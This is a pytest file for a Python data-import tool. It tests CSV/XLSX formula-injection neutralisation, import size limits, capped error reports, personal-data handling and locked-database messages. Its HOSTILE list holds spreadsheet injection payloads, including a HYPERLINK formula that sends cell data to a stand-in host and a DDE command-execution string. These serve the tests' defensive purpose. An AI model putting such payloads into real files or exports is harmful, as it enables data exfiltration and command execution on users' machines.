"""Hostile files and values, as issue 12's probes tried them: formula injection in every
export, the no-op round trip with such values, bounded imports (size, rows, columns, cell
length, a small XLSX with a huge shared string), short messages, a capped problem report,
the duplicate-name check with many rows of one name, no personal data kept from rejected
cells, and a locked store."""

from __future__ import annotations

import io
import shutil
import sqlite3
import subprocess
import sys
import time
from datetime import date
from pathlib import Path

import pandas as pd
import pytest
from importing_support import (
    ENTERPRISE_HEADERS,
    credit_code,
    csv_bytes,
    enterprise_rows,
    shared_string_xlsx,
    snapshot,
)
from openpyxl import load_workbook

from gsyf_geo import tabular
from gsyf_geo.importing import load as L
from gsyf_geo.importing import readers as R
from gsyf_geo.importing.export import export_bytes
from gsyf_geo.importing.load import import_file, import_file_guarded, report_csv
from gsyf_geo.importing.preview import history_table
from gsyf_geo.importing.problems import BUSY_MESSAGE, ImportFileError, Problem
from gsyf_geo.importing.readers import read_table
from gsyf_geo.importing.schema import IMPORTABLE_KINDS, KIND_SPECS
from gsyf_geo.importing.templates import template_bytes
from gsyf_geo.store import Store

ROOT = Path(__file__).resolve().parents[1]
# Values that a spreadsheet would run (the probes and OWASP's list).
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"点此")',
    "=cmd|' /C calc'!A0",
    "+86 519 1234",
    "-2+3",
    "@SUM(1+1)",
]


def _import(store, data, kind="enterprise", name="企业.csv", **kw):
    return import_file(store, kind, data, name, user="测试员", **kw)


def _hostile_enterprises() -> list[list[object]]:
    rows = enterprise_rows(len(HOSTILE))
    for i, value in enumerate(HOSTILE):
        rows[i][1] = f"{value}公司" if i % 2 else value  # 单位名称
        rows[i][7] = value  # 单位地址
    return rows


def _formula_cells(data: bytes) -> list[tuple[str, object]]:
    wb = load_workbook(io.BytesIO(data))
    return [(c.coordinate, c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]  # fmt: skip


# --- safe exports ------------------------------------------------------------------------------


def test_neutralising_is_only_for_text_and_is_undone_exactly():
    for value in HOSTILE + ["\tx", "\rx"]:
        safe = tabular.neutralize_csv_cell(value)
        assert safe == "'" + value
        assert tabular.restore_csv_cell(safe) == value
    for value in ["普通文字", "'引号开头", "'", "", "a=b", -3, -2.5, 0, None, date(2024, 1, 1)]:
        assert tabular.neutralize_csv_cell(value) == value
    assert tabular.restore_csv_cell("'引号开头") == "'引号开头"  # not one the export added
    frame = pd.DataFrame({"名称": ["=1+1", "正常"], "数": [-3, 4], "小数": [-1.5, 2.0]})
    text = tabular.to_csv_bytes(frame).decode("utf-8-sig").splitlines()
    assert text[1:] == ["'=1+1,-3,-1.5", "正常,4,2.0"]


def test_enterprise_export_stores_text_as_text(store):
    _import(store, csv_bytes(ENTERPRISE_HEADERS, _hostile_enterprises()))
    xlsx = export_bytes(store, "enterprise", "xlsx")
    assert _formula_cells(xlsx) == []
    ws = load_workbook(io.BytesIO(xlsx)).active
    headers = [c.value for c in ws[1]]
    addresses = [r[headers.index("单位地址")] for r in ws.iter_rows(min_row=2, values_only=True)]
    assert sorted(addresses) == sorted(HOSTILE)
    csv_text = export_bytes(store, "enterprise", "csv").decode("utf-8-sig")
    frame = pd.read_csv(io.StringIO(csv_text), dtype=str, keep_default_na=False)
    assert sorted(frame["单位地址"]) == sorted("'" + v for v in HOSTILE)
    assert frame["单位地址"].str.startswith("'=").sum() == 2
    assert not frame["经度"].str.startswith("'").any()  # numbers stay numbers


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_round_trip_with_hostile_values_changes_nothing(store, fmt):
    first = _import(store, csv_bytes(ENTERPRISE_HEADERS, _hostile_enterprises()))
    assert first.status == "done", first.problems
    stored = store.read("enterprise").set_index("credit_code")
    assert sorted(stored["address"]) == sorted(HOSTILE)  # the importer stored them as typed
    before = snapshot(store)
    for partial in (False, True):
        again = _import(store, export_bytes(store, "enterprise", fmt), name=f"导出.{fmt}", partial=partial)
        assert again.status == "unchanged", (again.summary_lines(), again.problems)
        assert snapshot(store) == before


def test_round_trip_of_demo_rows_keeps_their_demo_flag_and_addresses(demo_sqlite_path, tmp_path):
    """The issue: re-importing the demo city's export with --partial lost every demo flag
    (CSV) and emptied addresses holding formulas (XLSX)."""
    path = tmp_path / "demo.sqlite"
    shutil.copyfile(demo_sqlite_path, path)
    store = Store(f"sqlite:///{path}")
    with store.engine.begin() as conn:
        conn.exec_driver_sql(
            "UPDATE enterprise SET address = ? WHERE credit_code IN "
            "(SELECT credit_code FROM enterprise ORDER BY credit_code LIMIT 2)",
            ('=HYPERLINK("http://example.invalid","x")',),
        )
    before = snapshot(store)
    demo_rows = sum(bool(r["is_demo"]) for r in before["enterprise"])
    assert demo_rows == len(before["enterprise"]) > 0
    for fmt in ("csv", "xlsx"):
        result = _import(store, export_bytes(store, "enterprise", fmt), name=f"e.{fmt}", partial=True)
        assert result.status == "unchanged", result.summary_lines()
        assert snapshot(store) == before
    store.engine.dispose()


def test_templates_and_problem_reports_store_text_as_text():
    for kind in IMPORTABLE_KINDS:
        assert _formula_cells(template_bytes(kind, "xlsx")) == []
    report = report_csv([Problem("=evil.csv", 2, "@列", "+1 不是数字"), Problem("ok.csv", 3, None, "-x")], omitted=5)
    lines = report.decode("utf-8-sig").splitlines()
    assert lines[1].startswith("'=evil.csv,2,'@列,'+1 不是数字")
    assert lines[2].startswith("ok.csv,3,,'-x")
    assert "另有 5 条问题未列出" in lines[3]


def test_task_list_and_evaluation_exports_store_text_as_text():
    from gsyf_geo.monitor.evaluation import to_csv, to_excel
    from gsyf_geo.monitor.tasks import tasks_to_excel

    table = pd.DataFrame({
        "重点任务": ["=1+1"], "期限": [date(2025, 12, 31)], "状态": ["进行中"],
        "备注": [HOSTILE[0]], "佐证材料": [HOSTILE[1]], "修改人": ["@admin"],
    })  # fmt: skip
    data = tasks_to_excel(table, title="=标题")
    assert _formula_cells(data) == []
    ws = load_workbook(io.BytesIO(data)).active
    values = {c.value for row in ws.iter_rows() for c in row}
    assert {HOSTILE[0], HOSTILE[1], "@admin", "=1+1", "=标题"} <= values
    sheet = pd.DataFrame({"指标": ["=SUM(A1:A2)", "正常"], "值": [-1.5, 2]})
    assert _formula_cells(to_excel({"全市评估": sheet}, title="+t")) == []
    assert to_csv(sheet).decode("utf-8-sig").splitlines()[1:] == ["'=SUM(A1:A2),-1.5", "正常,2.0"]


def test_page_lists_store_text_as_text():
    """The risk map's enterprise list (xlsxwriter) and CSV."""
    frame = pd.DataFrame({"单位名称": HOSTILE, "职工人数": [-1, 2, 3, 4, 5]})
    data = tabular.to_xlsx_bytes(frame, "企业清单", note="=注")
    assert _formula_cells(data) == []
    ws = load_workbook(io.BytesIO(data)).active
    assert [r[0] for r in ws.iter_rows(min_row=4, values_only=True)] == HOSTILE
    assert [r[1] for r in ws.iter_rows(min_row=4, values_only=True)] == [-1, 2, 3, 4, 5]
    back = pd.read_csv(io.BytesIO(tabular.to_csv_bytes(frame)), encoding="utf-8-sig")
    assert [tabular.restore_csv_cell(v) for v in back["单位名称"]] == HOSTILE
    assert back["职工人数"].tolist() == [-1, 2, 3, 4, 5]


# --- bounded imports -----------------------------------------------------------------------------


def test_small_xlsx_with_a_huge_shared_string_is_refused_fast(store):
    """The probe: a ~6 KB XLSX whose one shared string (a number column) is 2 MB."""
    data = shared_string_xlsx(ENTERPRISE_HEADERS, enterprise_rows(1)[0], ENTERPRISE_HEADERS.index("职工人数"),
                              2_000_000)  # fmt: skip
    assert len(data) < 10_000
    t0 = time.perf_counter()
    result = _import(store, data, name="bomb.xlsx")
    assert time.perf_counter() - t0 < 3
    assert result.status == "rejected" and store.count("enterprise") == 0
    assert all(len(p.message) < 200 for p in result.problems), result.problems
    assert "9999999999" not in " ".join(result.summary_lines() + [str(p) for p in result.problems])


def test_a_long_cell_is_refused_while_reading_even_when_the_zip_looks_normal(monkeypatch):
    monkeypatch.setattr(R, "_MAX_RATIO", 10**9)
    data = shared_string_xlsx(ENTERPRISE_HEADERS, enterprise_rows(1)[0], 3, 2_000_000)
    with pytest.raises(ImportFileError, match="第 2 行第 4 列的单元格超过 2,000 个字符"):
        read_table(data, "bomb.xlsx").rows  # noqa: B018


def test_shared_strings_over_the_limit_are_refused_before_parsing(monkeypatch):
    import openpyxl

    monkeypatch.setenv("GSYF_IMPORT_MAX_SHARED_STRINGS_MB", "1")
    monkeypatch.setattr(openpyxl, "load_workbook", lambda *a, **k: pytest.fail("parsed"))
    data = shared_string_xlsx(ENTERPRISE_HEADERS, enterprise_rows(1)[0], 3, 1_500_000)
    with pytest.raises(ImportFileError, match="文字内容解压后超过 1 MB"):
        read_table(data, "big.xlsx")


@pytest.mark.parametrize(
    ("env", "value", "make", "message"),
    [
        ("GSYF_IMPORT_MAX_ROWS", "10", lambda: csv_bytes(ENTERPRISE_HEADERS, enterprise_rows(20)), "超过 10 行"),
        ("GSYF_IMPORT_MAX_COLUMNS", "8", lambda: csv_bytes(ENTERPRISE_HEADERS, enterprise_rows(2)), "超过 8 列"),
        ("GSYF_IMPORT_MAX_CELL_CHARS", "12", lambda: csv_bytes(ENTERPRISE_HEADERS, enterprise_rows(2)),
         "超过 12 个字符"),
        ("GSYF_IMPORT_MAX_MB", "1", lambda: csv_bytes(ENTERPRISE_HEADERS, enterprise_rows(2))
         + b"#" * (1024 * 1024), "超过 1 MB"),
    ],
)  # fmt: skip
def test_limits_from_the_environment_reject_the_file_in_chinese(store, monkeypatch, env, value, make, message):
    data = make()
    assert _import(store, data).status == "done" or env == "GSYF_IMPORT_MAX_MB"
    monkeypatch.setenv(env, value)
    result = _import(store, data, name="again.csv")
    assert result.status == "rejected"
    assert any(message in p.message for p in result.problems), result.problems


def test_xlsx_rows_are_streamed_and_limited(store, monkeypatch):
    from importing_support import xlsx_bytes

    data = xlsx_bytes(ENTERPRISE_HEADERS, enterprise_rows(30))
    monkeypatch.setenv("GSYF_IMPORT_MAX_ROWS", "20")
    table = read_table(data, "x.xlsx")
    assert [n for n, _ in table.head(3)] == [1, 2, 3]
    with pytest.raises(ImportFileError, match="超过 20 行"):
        list(table.iter_rows())


def test_messages_quote_only_a_short_prefix_of_a_bad_cell(store):
    rows = enterprise_rows(1)
    rows[0][3] = "一二三四五六七八九十" * 50  # 500 characters in 职工人数
    result = _import(store, csv_bytes(ENTERPRISE_HEADERS, rows))
    bad = [p for p in result.problems if p.column == "职工人数"]
    assert len(bad) == 1 and "“一二三四五六七八九十一二三四五六七八九十…”" in bad[0].message
    assert len(bad[0].message) < 60


def test_problem_report_is_capped_with_a_count_of_the_rest(store, monkeypatch):
    monkeypatch.setenv("GSYF_IMPORT_MAX_PROBLEMS", "10")
    rows = enterprise_rows(40)
    for r in rows:
        r[3] = "很多"
    result = _import(store, csv_bytes(ENTERPRISE_HEADERS, rows))
    assert result.status == "rejected" and result.rejected == 40
    assert len(result.problems) == 10 and sum(result.omitted.values()) == 30
    assert "问题：错误 40 条" in "\n".join(result.summary_lines())
    report = pd.read_csv(io.BytesIO(result.report_csv()), encoding="utf-8-sig", dtype=str)
    assert len(report) == 11 and report["问题"].iloc[-1] == "另有 30 条问题未列出"


def test_many_rows_with_one_name_are_checked_in_linear_work(store, monkeypatch):
    """20,000 rows sharing one name (304 s before): the work of the duplicate-name check is
    counted as the elements it sorts, which must grow with the rows, not their square."""
    n = 20_000
    rows = [[credit_code(i), "常州市同名机械有限公司", "C3412", 10, 9, "武进区", "湖塘镇", "", 119.95, 31.71]
            for i in range(n)]  # fmt: skip
    sorted_elements = 0

    def counting_sorted(iterable, *args, **kwargs):
        nonlocal sorted_elements
        out = sorted(iterable, *args, **kwargs)
        sorted_elements += len(out)
        return out

    monkeypatch.setattr(L, "sorted", counting_sorted, raising=False)
    result = _import(store, csv_bytes(ENTERPRISE_HEADERS, rows), partial=True)
    assert result.status == "done"
    assert sorted_elements <= 4 * n
    notes = [p for p in result.problems if p.column == "单位名称"]
    assert notes and all(len(p.message) < 120 for p in notes)
    assert "等 19,999 个" in notes[0].message


def test_duplicate_keys_in_a_file_name_a_few_rows_only(store):
    rows = [enterprise_rows(1)[0] for _ in range(3_000)]
    result = _import(store, csv_bytes(ENTERPRISE_HEADERS, rows))
    dup = [p for p in result.problems if "重复出现" in p.message]
    assert dup and all(len(p.message) < 80 for p in dup)
    assert "等 3,000 行" in dup[0].message


# --- personal data ------------------------------------------------------------------------------


def test_personal_columns_are_marked_in_the_schema():
    personal = {(k, c.header) for k, s in KIND_SPECS.items() for c in s.columns if c.personal}
    assert ("enterprise", "单位名称") in personal and ("enterprise", "单位地址") in personal
    assert ("work_injury", "事故地点") in personal
    assert ("enterprise", "职工人数") not in personal


def test_rejected_cells_leave_no_personal_data_in_records_or_history(store):
    _import(store, csv_bytes(ENTERPRISE_HEADERS, enterprise_rows(2)))
    id_number, person = "320402199001011234", "张小三"
    rows = enterprise_rows(2)
    rows[0][3] = id_number  # an ID number typed into 职工人数
    rows[1][1] = person  # the stored name changes (a personal column)
    result = _import(store, csv_bytes(ENTERPRISE_HEADERS, rows), name="名单.csv")
    assert result.status == "rejected"
    history = history_table(store)
    assert id_number not in " ".join(history["说明"]) and "第 2 行" in history["说明"].iloc[0]
    for p in result.problems:
        if p.column == "单位名称":
            assert person not in p.message and "常州市测试1号" not in p.message
    # A snapshot naming a unit differently: the register's name is not quoted either.
    snap = csv_bytes(["统一社会信用代码", "单位名称", "年度", "职工人数", "参保人数"],
                     [[credit_code(0), person, 2024, 10, 9]])  # fmt: skip
    result = _import(store, snap, kind="insurance_snapshot", name="s.csv")
    notes = [p for p in result.problems if p.column == "单位名称"]
    assert notes and all(person not in p.message and "测试0号" not in p.message for p in notes)


# --- a locked store ------------------------------------------------------------------------------


def test_import_against_a_locked_sqlite_file_says_busy_without_sql(tmp_path, monkeypatch):
    """As the page runs it (import_file_guarded): another connection holds a write
    transaction; the import waits, retries, then says 数据库正忙 — no SQL, no parameters."""
    monkeypatch.setenv("GSYF_SQLITE_BUSY_MS", "200")
    monkeypatch.setenv("GSYF_IMPORT_ATTEMPTS", "2")
    path = tmp_path / "locked.sqlite"
    store = Store(f"sqlite:///{path}")
    store.create_schema()
    holder = sqlite3.connect(path)
    holder.execute("BEGIN IMMEDIATE")  # holds the write lock until rolled back
    try:
        result, failure = import_file_guarded(store, "enterprise", csv_bytes(ENTERPRISE_HEADERS, enterprise_rows(3)),
                                              "企业.csv", user="测试员")  # fmt: skip
    finally:
        holder.rollback()
        holder.close()
    assert result is None and failure == BUSY_MESSAGE
    assert store.count("enterprise") == 0
    result, failure = import_file_guarded(store, "enterprise", csv_bytes(ENTERPRISE_HEADERS, enterprise_rows(3)),
                                          "企业.csv", user="测试员")  # fmt: skip
    assert failure is None and result.status == "done"
    store.engine.dispose()


def test_cli_import_against_a_locked_store_prints_busy_without_sql(tmp_path):
    path = tmp_path / "cli.sqlite"
    store = Store(f"sqlite:///{path}")
    store.create_schema()
    store.engine.dispose()
    f = tmp_path / "企业.csv"
    f.write_bytes(csv_bytes(ENTERPRISE_HEADERS, enterprise_rows(3)))
    holder = sqlite3.connect(path)
    holder.execute("BEGIN IMMEDIATE")
    try:
        env = {"GSYF_DB_URL": f"sqlite:///{path}", "GSYF_SQLITE_BUSY_MS": "200", "GSYF_IMPORT_ATTEMPTS": "2",
               "PATH": "/usr/bin:/bin", "HOME": str(tmp_path)}  # fmt: skip
        proc = subprocess.run([sys.executable, "-m", "gsyf_geo", "import", "enterprise", str(f)],
                              capture_output=True, text=True, cwd=ROOT, env=env, timeout=120)  # fmt: skip
    finally:
        holder.rollback()
        holder.close()
    out = proc.stdout + proc.stderr
    assert proc.returncode != 0 and BUSY_MESSAGE in out, out
    for leak in ("INSERT", "SELECT", "sqlite3", "Traceback", "[parameters"):
        assert leak not in out


@pytest.mark.parametrize("busy_ms", [None, "20"])
def test_two_cli_imports_at_once(tmp_path, busy_ms):
    """With the default busy timeout both load; with a tiny one and no retry, one may be
    refused — with 数据库正忙 and nothing of the SQL — and the store holds what loaded."""
    path = tmp_path / "two.sqlite"
    store = Store(f"sqlite:///{path}")
    store.create_schema()
    store.engine.dispose()
    files = []
    for k in range(2):
        f = tmp_path / f"企业{k}.csv"
        f.write_bytes(csv_bytes(ENTERPRISE_HEADERS, enterprise_rows(3_000, start=k * 3_000)))
        files.append(f)
    env = {"GSYF_DB_URL": f"sqlite:///{path}", "PATH": "/usr/bin:/bin", "HOME": str(tmp_path)}
    if busy_ms:
        env |= {"GSYF_SQLITE_BUSY_MS": busy_ms, "GSYF_IMPORT_ATTEMPTS": "1"}
    procs = [subprocess.Popen([sys.executable, "-m", "gsyf_geo", "import", "enterprise", str(f)],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=ROOT, env=env)
             for f in files]  # fmt: skip
    outs = [p.communicate(timeout=300) for p in procs]
    loaded = 0
    for p, (out, err) in zip(procs, outs, strict=True):
        text = out + err
        assert "locked" not in text and "INSERT" not in text and "Traceback" not in text, text
        if busy_ms is None:
            assert p.returncode == 0, text
        assert p.returncode == 0 or BUSY_MESSAGE in text, text
        loaded += p.returncode == 0
    store = Store(f"sqlite:///{path}")
    assert loaded >= 1 and store.count("enterprise") == 3_000 * loaded
    store.engine.dispose()


def test_audit_csv_on_the_command_line_stores_text_as_text(tmp_path, monkeypatch, capsys):
    from gsyf_geo.auth import audit
    from gsyf_geo.cli import main

    url = f"sqlite:///{tmp_path / 'audit.sqlite'}"
    monkeypatch.setenv("GSYF_DB_URL", url)
    store = Store(url)
    store.create_schema()
    audit.record(store, "alice", "export", "=HYPERLINK(\"http://x\")", 3)
    store.engine.dispose()
    assert main(["audit", "--csv"]) == 0
    out = capsys.readouterr().out
    assert "'=HYPERLINK" in out and ",=HYPERLINK" not in out
